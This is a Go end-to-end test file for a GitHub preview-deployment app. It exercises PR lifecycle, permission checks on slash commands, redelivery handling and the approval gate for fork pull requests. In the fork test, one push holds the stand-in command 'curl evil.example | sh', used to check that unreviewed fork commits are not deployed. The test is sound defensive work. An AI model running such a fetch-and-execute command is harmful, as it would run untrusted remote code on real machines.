package main

import (
	"bytes"
	"context"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/uptrace/bun"

	"github.com/stagely-dev/stagely/checks"
	"github.com/stagely-dev/stagely/comments"
	"github.com/stagely-dev/stagely/ghsim"
	"github.com/stagely-dev/stagely/reconciler"
	"github.com/stagely-dev/stagely/reconciler/reconcilertest"
	"github.com/stagely-dev/stagely/store"
	"github.com/stagely-dev/stagely/store/storetest"
)

const (
	testAppID  = 4242
	testSecret = "e2e-webhook-secret-0123456789"
	owner      = "acme"
	repoName   = "shop"
)

const validConfig = `version: 1
previews:
  - name: web
    service: web
    port: 8080
`

// world is one simulated GitHub with one installed repository, a fresh
// database, and Stagely servers started against them.
type world struct {
	t      testing.TB
	sim    *ghsim.Sim
	simURL string
	key    string
	dbURL  string
	db     *bun.DB
	logs   *syncBuffer
	valkey string // empty: single-node mode
	addr   string // the server webhooks go to

	redelivered map[string]bool
}

func newWorld(t testing.TB, files map[string]string) *world {
	t.Helper()
	sim, err := ghsim.New(ghsim.Config{AppID: testAppID, AppSlug: "stagely", WebhookSecret: testSecret, CheckResponses: true})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(sim)
	t.Cleanup(srv.Close)
	sim.SetBaseURL(srv.URL)
	w := &world{t: t, sim: sim, simURL: srv.URL + "/", dbURL: storetest.NewURL(t), logs: &syncBuffer{}, redelivered: map[string]bool{}}
	w.key = filepath.Join(t.TempDir(), "app.pem")
	if err := os.WriteFile(w.key, sim.AppPrivateKeyPEM(), 0o600); err != nil {
		t.Fatal(err)
	}
	if w.db, err = store.Open(context.Background(), w.dbURL, 4); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.db.Close() })
	ctx := context.Background()
	if _, err := sim.CreateInstallation(ctx, ghsim.InstallationSpec{Account: owner}); err != nil {
		t.Fatal(err)
	}
	if files == nil {
		files = map[string]string{".stagely.yml": validConfig, "compose.yaml": "services: {web: {build: .}}\n"}
	}
	if _, err := sim.CreateRepo(ctx, ghsim.RepoSpec{Owner: owner, Name: repoName, Files: files}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		// Every request Stagely made must be one GitHub would accept.
		for _, r := range sim.Requests() {
			if !r.Valid || r.ResponseError != "" {
				t.Errorf("request not valid against GitHub's API description: %s %s → %d: %s %s", r.Method, r.Path, r.Status, r.Error, r.ResponseError)
			}
		}
		if t.Failed() {
			t.Logf("server logs:\n%s", w.logs.String())
		}
	})
	return w
}

func (w *world) config(workers int) serverConfig {
	return serverConfig{
		addr: "127.0.0.1:0", databaseURL: w.dbURL, valkeyURL: w.valkey, webhookSecret: testSecret, githubURL: w.simURL,
		appID: testAppID, appKeyFile: w.key, workers: workers, lease: 2 * time.Second,
		poll: 200 * time.Millisecond, defaultTTL: time.Hour, logLevel: "warn", logFormat: "json",
	}
}

// serve starts an in-process server and points the simulator's webhooks at
// it; the returned func stops it.
func (w *world) serve(d reconciler.Deployer, workers int) func() {
	w.t.Helper()
	return w.start(w.config(workers), d)
}

// serveConfig starts a server with cfg and its own deployer (cfg.fleet).
func (w *world) serveConfig(cfg serverConfig) func() {
	w.t.Helper()
	return w.start(cfg, unavailableDeployer{})
}

func (w *world) start(cfg serverConfig, d reconciler.Deployer) func() {
	w.t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	addrc, errc := make(chan string, 1), make(chan error, 1)
	go func() {
		errc <- runServer(ctx, cfg, w.logs, serverDeps{deployer: d, listening: func(a string) { addrc <- a }})
	}()
	select {
	case a := <-addrc:
		w.sim.SetWebhookURL("http://" + a + "/api/github/hook")
		w.addr = a
	case err := <-errc:
		cancel()
		w.t.Fatalf("server did not start: %v", err)
	case <-time.After(15 * time.Second):
		cancel()
		w.t.Fatal("server did not start within 15s")
	}
	var once sync.Once
	stop := func() {
		once.Do(func() {
			cancel()
			if err := <-errc; err != nil {
				w.t.Errorf("server: %v", err)
			}
		})
	}
	w.t.Cleanup(stop)
	return stop
}

func (w *world) openPR(head string) ghsim.Result {
	w.t.Helper()
	res, err := w.sim.OpenPR(context.Background(), ghsim.PRSpec{Owner: owner, Repo: repoName, Head: head, Files: map[string]string{"index.html": "v1 of " + head}})
	if err != nil {
		w.t.Fatal(err)
	}
	if res.Delivery == nil || res.Delivery.Status != 200 {
		w.t.Fatalf("pull_request.opened delivery: %+v", res.Delivery)
	}
	return res
}

func (w *world) push(pr int, content string) ghsim.Result {
	w.t.Helper()
	res, err := w.sim.PushToPR(context.Background(), ghsim.PushSpec{Owner: owner, Repo: repoName, Number: pr, Files: map[string]string{"index.html": content}})
	if err != nil {
		w.t.Fatal(err)
	}
	return res
}

func (w *world) comment(pr int, user, perm, body string) ghsim.Result {
	w.t.Helper()
	res, err := w.sim.Comment(context.Background(), ghsim.CommentSpec{Owner: owner, Repo: repoName, Number: pr, User: user, Permission: perm, Body: body})
	if err != nil {
		w.t.Fatal(err)
	}
	return res
}

func (w *world) runs(sha string) []ghsim.CheckRun {
	w.t.Helper()
	all, err := w.sim.CheckRuns(owner, repoName, sha)
	if err != nil {
		w.t.Fatal(err)
	}
	var out []ghsim.CheckRun
	for _, r := range all {
		if r.Name == checks.CheckName {
			out = append(out, r)
		}
	}
	return out
}

// sticky returns Stagely's sticky comments on pr.
func (w *world) sticky(pr int) []ghsim.Comment {
	w.t.Helper()
	cs, err := w.sim.Comments(owner, repoName, pr)
	if err != nil {
		w.t.Fatal(err)
	}
	var out []ghsim.Comment
	for _, c := range cs {
		if c.User == w.sim.BotLogin() && strings.Contains(c.Body, comments.Marker) {
			out = append(out, c)
		}
	}
	return out
}

func (w *world) replies(pr int) []ghsim.Comment {
	w.t.Helper()
	cs, err := w.sim.Comments(owner, repoName, pr)
	if err != nil {
		w.t.Fatal(err)
	}
	var out []ghsim.Comment
	for _, c := range cs {
		if c.User == w.sim.BotLogin() && !strings.Contains(c.Body, comments.Marker) {
			out = append(out, c)
		}
	}
	return out
}

func (w *world) reactions(commentID int64) []string {
	w.t.Helper()
	rs, err := w.sim.Reactions(owner, repoName, commentID)
	if err != nil {
		w.t.Fatal(err)
	}
	var out []string
	for _, r := range rs {
		if r.User == w.sim.BotLogin() {
			out = append(out, r.Content)
		}
	}
	return out
}

// eventually polls cond until it holds or within passes; it reports what
// cond last said.
func eventually(t testing.TB, within time.Duration, cond func() (bool, string)) {
	t.Helper()
	deadline := time.Now().Add(within)
	for {
		ok, why := cond()
		if ok {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("not within %s: %s", within, why)
		}
		time.Sleep(25 * time.Millisecond)
	}
}

// completed waits for exactly one Stagely check run on sha, completed with
// conclusion, and returns it.
func (w *world) completed(sha, conclusion string, within time.Duration) ghsim.CheckRun {
	w.t.Helper()
	var run ghsim.CheckRun
	eventually(w.t, within, func() (bool, string) {
		rs := w.runs(sha)
		if len(rs) != 1 {
			return false, "check runs on " + sha + ": " + describeRuns(rs)
		}
		run = rs[0]
		return run.Status == "completed" && run.Conclusion == conclusion, "check run " + describeRuns(rs) + ", want completed/" + conclusion
	})
	return run
}

func describeRuns(rs []ghsim.CheckRun) string {
	var b strings.Builder
	b.WriteString("[")
	for i, r := range rs {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(r.Status + "/" + r.Conclusion)
	}
	b.WriteString("]")
	return b.String()
}

func (w *world) environment(pr int) store.Environment {
	w.t.Helper()
	var e store.Environment
	if err := w.db.NewSelect().Model(&e).Where("pr_number = ?", pr).Scan(context.Background()); err != nil {
		w.t.Fatal(err)
	}
	return e
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func TestPullRequestLifecycle(t *testing.T) {
	w := newWorld(t, nil)
	d := reconcilertest.New()
	w.serve(d, 4)

	start := time.Now()
	pr := w.openPR("feature")
	// The goal: GitHub shows Stagely at work within 2 s of the pull
	// request. Later waits are only bounded generously.
	eventually(t, 2*time.Second, func() (bool, string) {
		return len(w.runs(pr.SHA)) == 1 && len(w.sticky(pr.Number)) == 1, "no check run and comment yet"
	})
	t.Logf("check run and comment after %s", time.Since(start))
	// The run is created queued, as soon as the pull request is seen.
	var created []string
	for _, r := range w.sim.Requests() {
		if r.Method == "POST" && strings.HasSuffix(r.Path, "/check-runs") {
			created = append(created, string(r.Body))
		}
	}
	if len(created) == 0 || !strings.Contains(created[0], `"status":"queued"`) {
		t.Errorf("the first check run was not created queued: %q", created)
	}
	run := w.completed(pr.SHA, "success", 5*time.Second)
	env := w.environment(pr.Number)
	url := reconcilertest.PreviewURL(reconciler.Target{Hash: env.Hash})
	if run.DetailsURL != url || !strings.Contains(run.Summary, url) {
		t.Errorf("success check run: details_url %q, summary %q; want the preview URL %s", run.DetailsURL, run.Summary, url)
	}
	var commentID int64
	eventually(t, 10*time.Second, func() (bool, string) {
		s := w.sticky(pr.Number)
		if len(s) != 1 || !strings.Contains(s[0].Body, url) || !strings.Contains(s[0].Body, pr.SHA[:7]) {
			return false, "sticky comment should hold the preview URL and commit"
		}
		commentID = s[0].ID
		return true, ""
	})

	push := w.push(pr.Number, "v2")
	w.completed(push.SHA, "success", 5*time.Second)
	eventually(t, 10*time.Second, func() (bool, string) {
		s := w.sticky(pr.Number)
		return len(s) == 1 && s[0].ID == commentID && strings.Contains(s[0].Body, push.SHA[:7]), "sticky comment not updated to the pushed commit"
	})
	if n := len(w.runs(pr.SHA)); n != 1 {
		t.Errorf("the push made %d check runs on the old commit", n)
	}

	if _, err := w.sim.ClosePR(context.Background(), owner, repoName, pr.Number, false, "octocat"); err != nil {
		t.Fatal(err)
	}
	eventually(t, 5*time.Second, func() (bool, string) {
		s := w.sticky(pr.Number)
		return len(s) == 1 && s[0].ID == commentID && strings.Contains(s[0].Body, "Stagely preview: destroyed"), "sticky comment does not say destroyed"
	})
	w.completed(push.SHA, "neutral", 10*time.Second)
	if n := len(d.Destroys()); n != 1 {
		t.Errorf("%d destroys, want 1", n)
	}
}

func TestSlashCommandsAndButtons(t *testing.T) {
	w := newWorld(t, nil)
	d := reconcilertest.New()
	w.serve(d, 4)
	pr := w.openPR("feature")
	run := w.completed(pr.SHA, "success", 5*time.Second)
	deploys := func() int { return len(d.Deploys()) }
	if deploys() != 1 {
		t.Fatalf("%d deploys after open, want 1", deploys())
	}

	// A writer's redeploy: 👀, a redeploy, 🚀.
	c := w.comment(pr.Number, "alice", "write", "/stagely redeploy")
	eventually(t, 5*time.Second, func() (bool, string) {
		r := w.reactions(c.ID)
		return deploys() == 2 && strings.Join(r, ",") == "eyes,rocket", "reactions " + strings.Join(r, ",")
	})

	// A reader's redeploy: a reply saying why not, 😕, and no deploy.
	c = w.comment(pr.Number, "bob", "read", "/stagely redeploy")
	eventually(t, 5*time.Second, func() (bool, string) {
		r := w.reactions(c.ID)
		return strings.Join(r, ",") == "eyes,confused", "reactions " + strings.Join(r, ",")
	})
	replies := w.replies(pr.Number)
	if len(replies) != 1 || !strings.Contains(replies[0].Body, "bob") {
		t.Fatalf("want one refusal reply to bob, got %+v", replies)
	}
	time.Sleep(300 * time.Millisecond)
	if deploys() != 2 {
		t.Fatalf("a reader's command deployed (%d deploys)", deploys())
	}

	// The Redeploy button and Re-run act as redeploy.
	latest := func() ghsim.CheckRun {
		rs := w.runs(pr.SHA)
		return rs[len(rs)-1]
	}
	run = latest()
	if _, err := w.sim.ClickCheckRunAction(context.Background(), owner, repoName, run.ID, "redeploy", "alice"); err != nil {
		t.Fatal(err)
	}
	eventually(t, 5*time.Second, func() (bool, string) { return deploys() == 3, "button did not redeploy" })
	eventually(t, 5*time.Second, func() (bool, string) { return latest().Conclusion == "success", "redeploy not finished" })
	if _, err := w.sim.RerequestCheckRun(context.Background(), owner, repoName, latest().ID, "alice"); err != nil {
		t.Fatal(err)
	}
	eventually(t, 5*time.Second, func() (bool, string) { return deploys() == 4, "re-run did not redeploy" })
	eventually(t, 5*time.Second, func() (bool, string) { return latest().Conclusion == "success", "re-run not finished" })

	// A reader's button press does nothing.
	w.sim.SetPermission(owner, repoName, "bob", "read")
	if _, err := w.sim.ClickCheckRunAction(context.Background(), owner, repoName, latest().ID, "destroy", "bob"); err != nil {
		t.Fatal(err)
	}
	eventually(t, 5*time.Second, func() (bool, string) { return len(w.replies(pr.Number)) == 2, "no refusal for bob's button" })
	if len(d.Destroys()) != 0 {
		t.Fatal("a reader's Destroy button destroyed the environment")
	}

	// The Destroy button destroys.
	if _, err := w.sim.ClickCheckRunAction(context.Background(), owner, repoName, latest().ID, "destroy", "alice"); err != nil {
		t.Fatal(err)
	}
	eventually(t, 5*time.Second, func() (bool, string) {
		s := w.sticky(pr.Number)
		return len(d.Destroys()) == 1 && len(s) == 1 && strings.Contains(s[0].Body, "Stagely preview: destroyed"), "not destroyed"
	})
}

func TestRedeliveryAndConcurrentEventsKeepOneCommentAndRun(t *testing.T) {
	w := newWorld(t, nil)
	d := reconcilertest.New()
	w.serve(d, 4)
	pr := w.openPR("feature")
	w.completed(pr.SHA, "success", 5*time.Second)

	// GitHub redelivers a delivery that was done: nothing happens again.
	if _, err := w.sim.Redeliver(context.Background(), pr.Delivery.GUID); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	if n, c := len(w.runs(pr.SHA)), len(w.sticky(pr.Number)); n != 1 || c != 1 {
		t.Fatalf("after a redelivery: %d check runs, %d comments; want 1 and 1", n, c)
	}
	if n := len(d.Deploys()); n != 1 {
		t.Fatalf("redelivery deployed again (%d deploys)", n)
	}

	// 50 events on one PR at once: pushes and commands race.
	var wg sync.WaitGroup
	var mu sync.Mutex
	var last []string
	for i := range 50 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if i%5 == 0 {
				w.comment(pr.Number, "alice", "write", "/stagely redeploy")
				return
			}
			res := w.push(pr.Number, "burst "+string(rune('a'+i%26))+time.Now().String())
			mu.Lock()
			last = append(last, res.SHA)
			mu.Unlock()
		}()
	}
	wg.Wait()
	eventually(t, 20*time.Second, func() (bool, string) {
		e := w.environment(pr.Number)
		return e.ObservedGeneration == e.DesiredGeneration && e.IntentSeq == e.HandledSeq && e.ObservedState == store.ObservedRunning,
			"environment not converged: " + e.ObservedState
	})
	if s := w.sticky(pr.Number); len(s) != 1 {
		t.Fatalf("%d sticky comments after 50 concurrent events, want 1", len(s))
	}
	// Every deployment has its own check run, none is left open, and the
	// head's last one succeeded.
	e := w.environment(pr.Number)
	var deps []store.Deployment
	if err := w.db.NewSelect().Model(&deps).Where("environment_id = ?", e.ID).Order("generation").Scan(context.Background()); err != nil {
		t.Fatal(err)
	}
	seen := map[int64]bool{}
	for _, dep := range deps {
		if dep.CheckRunID == 0 || seen[dep.CheckRunID] {
			t.Errorf("deployment %d (generation %d) has check run %d, shared or missing", dep.ID, dep.Generation, dep.CheckRunID)
		}
		seen[dep.CheckRunID] = true
	}
	for _, sha := range append(last, pr.SHA) {
		for _, r := range w.runs(sha) {
			if r.Status != "completed" {
				t.Errorf("check run %d on %s left %s", r.ID, sha[:7], r.Status)
			}
			if !seen[r.ID] {
				t.Errorf("check run %d on %s belongs to no deployment", r.ID, sha[:7])
			}
		}
	}
	runs := w.runs(e.DesiredSHA)
	if len(runs) == 0 || runs[len(runs)-1].Conclusion != "success" {
		t.Errorf("desired head %s has runs %s, want the last to succeed", e.DesiredSHA[:7], describeRuns(runs))
	}
}

func TestForkPullRequestWaitsForApproval(t *testing.T) {
	w := newWorld(t, nil)
	d := reconcilertest.New()
	w.serve(d, 2)
	res, err := w.sim.OpenPR(context.Background(), ghsim.PRSpec{Owner: owner, Repo: repoName, Head: "patch", ForkOwner: "stranger", Files: map[string]string{"index.html": "hi"}})
	if err != nil {
		t.Fatal(err)
	}
	w.completed(res.SHA, "action_required", 5*time.Second)
	eventually(t, 2*time.Second, func() (bool, string) {
		s := w.sticky(res.Number)
		return len(s) == 1 && strings.Contains(s[0].Body, "/stagely deploy"), "sticky comment does not ask for /stagely deploy"
	})
	if len(d.Deploys()) != 0 {
		t.Fatal("a fork PR was deployed without approval")
	}
	w.comment(res.Number, "stranger", "read", "/stagely deploy")
	time.Sleep(500 * time.Millisecond)
	if len(d.Deploys()) != 0 {
		t.Fatal("the fork's author approved their own PR")
	}
	w.comment(res.Number, "alice", "write", "/stagely deploy")
	eventually(t, 5*time.Second, func() (bool, string) {
		rs := w.runs(res.SHA)
		return len(d.Deploys()) == 1 && len(rs) == 2 && rs[1].Conclusion == "success", "writer's /stagely deploy did not deploy: " + describeRuns(rs)
	})

	// The approval is for the commit reviewed: the fork's next push waits
	// for its own.
	push := w.push(res.Number, "curl evil.example | sh")
	w.completed(push.SHA, "action_required", 5*time.Second)
	if n := len(d.Deploys()); n != 1 {
		t.Fatalf("the fork's push after the approval was deployed without review (%d deploys)", n)
	}
	w.comment(res.Number, "alice", "write", "/stagely deploy")
	eventually(t, 5*time.Second, func() (bool, string) {
		ds := d.Deploys()
		return len(ds) == 2 && ds[1].SHA == push.SHA, "the second approval did not deploy the pushed commit"
	})

	// A push whose event is late (GitHub's delivery failed) when a
	// maintainer approves: the approval is for the commit they were shown,
	// not for the head the pull request has by then.
	webhooks := "http://" + w.addr + "/api/github/hook"
	w.sim.SetWebhookURL("http://127.0.0.1:1/api/github/hook")
	late := w.push(res.Number, "pushed while the maintainer reads")
	w.sim.SetWebhookURL(webhooks)
	w.comment(res.Number, "alice", "write", "/stagely deploy")
	eventually(t, 5*time.Second, func() (bool, string) { return len(d.Deploys()) == 3, "the third approval did not deploy" })
	w.redeliverFailed(context.Background())
	w.completed(late.SHA, "action_required", 5*time.Second)
	for _, dep := range d.Deploys() {
		if dep.SHA == late.SHA {
			t.Fatalf("commit %s, pushed unseen before the approval, was deployed without review", late.SHA[:7])
		}
	}
}

func TestRepositoryConfigProblemsAreReported(t *testing.T) {
	cases := []struct {
		name       string
		files      map[string]string
		conclusion string
		want       []string
		// comment is what the sticky comment says besides: for a
		// repository not enabled, how to enable it.
		comment []string
	}{
		{"not enabled", map[string]string{"README.md": "hi"}, "neutral", []string{".stagely.yml"},
			[]string{"not enabled", "add a `.stagely.yml` at the root", "previews:", "/stagely redeploy"}},
		{"invalid", map[string]string{".stagely.yml": "version: 1\npreviews:\n  - name: web\n    service: web\n    port: 99999\n"}, "failure", []string{"line 5", "port"}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t, c.files)
			d := reconcilertest.New()
			w.serve(d, 2)
			pr := w.openPR("feature")
			run := w.completed(pr.SHA, c.conclusion, 5*time.Second)
			eventually(t, 2*time.Second, func() (bool, string) {
				s := w.sticky(pr.Number)
				if len(s) != 1 {
					return false, "no sticky comment"
				}
				for _, want := range append(slices.Clone(c.want), c.comment...) {
					if !strings.Contains(s[0].Body, want) {
						return false, "sticky comment lacks " + want + ":\n" + s[0].Body
					}
				}
				return true, ""
			})
			for _, want := range c.want {
				if !strings.Contains(run.Summary+run.Text+run.Title, want) {
					t.Errorf("check run output lacks %q: %s\n%s", want, run.Summary, run.Text)
				}
			}
			if len(d.Deploys()) != 0 {
				t.Error("deployed without a valid config")
			}
		})
	}
}

func prSpec(head string) ghsim.PRSpec {
	return ghsim.PRSpec{Owner: owner, Repo: repoName, Head: head, Files: map[string]string{"index.html": "v1 of " + head}}
}

// valkeyURL is the server scripts/services.sh starts.
func valkeyURL() string {
	if u := os.Getenv("STAGELY_TEST_VALKEY_URL"); u != "" {
		return u
	}
	return "redis://127.0.0.1:6379/0"
}

func idString(id int64) string { return strconv.FormatInt(id, 10) }
